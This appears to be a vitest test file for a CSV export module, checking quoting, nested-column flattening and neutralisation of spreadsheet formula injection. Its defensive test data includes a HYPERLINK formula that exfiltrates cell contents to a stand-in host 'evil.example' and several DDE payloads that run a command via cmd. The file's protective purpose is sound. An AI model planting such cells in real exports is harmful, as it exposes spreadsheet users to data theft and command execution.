import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { tableToCsv, csvCell } from "../../src/render/csv.js";
import { SAMPLES } from "../helpers/render-samples.js";

describe("tableToCsv", () => {
  it.each(Object.entries(SAMPLES).filter(([, a]) => Array.isArray(a.body.result[a.primaryKey])))(
    "round-trips the %s table through csv-parse",
    (_name, answer) => {
      const rows = answer.body.result[answer.primaryKey] as Record<string, unknown>[];
      const csv = tableToCsv(rows);
      const parsed = parse(csv, { columns: true }) as Record<string, string>[];
      expect(parsed).toHaveLength(rows.length);
      rows.forEach((row, i) => {
        for (const [key, value] of Object.entries(row)) {
          if (value !== null && typeof value === "object") continue;
          expect(parsed[i][key]).toBe(value === null || value === undefined ? "" : String(value));
        }
      });
    },
  );

  it("quotes commas, quotes and line breaks as RFC 4180 says", () => {
    const rows = [{ title: 'Board, "XL"', note: "two\nlines", n: 1 }];
    const csv = tableToCsv(rows);
    expect(csv).toBe('title,note,n\r\n"Board, ""XL""","two\nlines",1\r\n');
    expect(parse(csv, { columns: true })).toEqual([{ title: 'Board, "XL"', note: "two\nlines", n: "1" }]);
  });

  it("flattens nested objects into dotted columns", () => {
    const rows = SAMPLES.inventory.body.result.products as Record<string, unknown>[];
    const [header] = parse(tableToCsv(rows)) as string[][];
    expect(header).toEqual(
      expect.arrayContaining([
        "restock_recommendation.recommended_quantity",
        "restock_recommendation.urgency",
        "restock_recommendation.optimal_po_date",
      ]),
    );
    const parsed = parse(tableToCsv(rows), { columns: true }) as Record<string, string>[];
    expect(parsed.map((r) => r["restock_recommendation.urgency"])).toEqual(["critical", "low"]);
  });

  it("keeps the first row's column order and adds later keys at the end", () => {
    const csv = tableToCsv([
      { b: 1, a: 2 },
      { a: 3, c: 4, b: 5 },
    ]);
    expect(csv.split("\r\n")[0]).toBe("b,a,c");
    expect(parse(csv, { columns: true })).toEqual([
      { b: "1", a: "2", c: "" },
      { b: "5", a: "3", c: "4" },
    ]);
  });

  it("writes nothing for no rows", () => {
    expect(tableToCsv([])).toBe("");
  });
});

describe("csv cells stay inert in a spreadsheet", () => {
  // [what, value, the cell as a spreadsheet reads it]
  const CELLS: [string, unknown, string][] = [
    ["a formula", "=1+2", "'=1+2"],
    [
      "a link formula",
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
    ],
    ["a DDE call", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ["a plus formula", "+1+2", "'+1+2"],
    ["a minus formula", "-1+2", "'-1+2"],
    ["a DDE call after a minus", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["an at-sign function", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ["a leading tab", "\t=1+2", "'\t=1+2"],
    ["a leading carriage return", "\r=1+2", "'\r=1+2"],
    ["a leading line feed", "\n=1+2", "'\n=1+2"],
    ["a formula after spaces", "  =1+2", "'  =1+2"],
    ["a full-width equals sign", "\uff1d1+2", "'\uff1d1+2"],
    ["a full-width at sign", "\uff20SUM(A1)", "'\uff20SUM(A1)"],
    ["a title starting with a dash", "- Sale - Pan 28 cm", "'- Sale - Pan 28 cm"],
    ["a list whose first item is a formula", ["=1+2", "b"], "'=1+2; b"],
    ["a negative number", -12.5, "-12.5"],
    ["a positive number", 1234.5, "1234.5"],
    ["zero", 0, "0"],
    ["a negative number written as text", "-12.5", "-12.5"],
    ["a signed whole number written as text", "+42", "+42"],
    ["a number in exponent form written as text", "-1.5e3", "-1.5e3"],
    ["a boolean", true, "true"],
    ["ordinary text", "Nestwell Frying Pan", "Nestwell Frying Pan"],
    ["text with an inner equals sign", "a=b", "a=b"],
    ["text with an inner formula after a comma", "Pan, =1+2", "Pan, =1+2"],
    ["an ISO date", "2026-11-21", "2026-11-21"],
    ["an empty string", "", ""],
    ["null", null, ""],
    ["a list of objects", [{ note: "=1+2" }], '{"note":"=1+2"}'],
  ];

  it.each(CELLS)("%s", (_what, value, expected) => {
    expect(csvCell(value)).toBe(expected);
    const csv = tableToCsv([{ cell: value }]);
    const [row] = parse(csv, { columns: true, relax_quotes: true }) as Record<string, string>[];
    expect(row.cell).toBe(expected);
  });

  it("quotes a neutralised cell and any cell a semicolon or tab separated reader would split", () => {
    const csv = tableToCsv([{ a: "=1+2", b: "x;=1+2", c: "x\t=1+2", d: "plain" }]);
    expect(csv).toBe(`a,b,c,d\r\n"'=1+2","x;=1+2","x\t=1+2",plain\r\n`);
  });

  it("neutralises the cells of nested objects, which become dotted columns", () => {
    const [row] = parse(tableToCsv([{ detail: { note: "=1+2", n: -3 } }]), { columns: true }) as Record<
      string,
      string
    >[];
    expect(row).toEqual({ "detail.note": "'=1+2", "detail.n": "-3" });
  });

  it("neutralises column names too", () => {
    const [header] = parse(tableToCsv([{ "=1+2": 1 }])) as string[][];
    expect(header).toEqual(["'=1+2"]);
  });
});
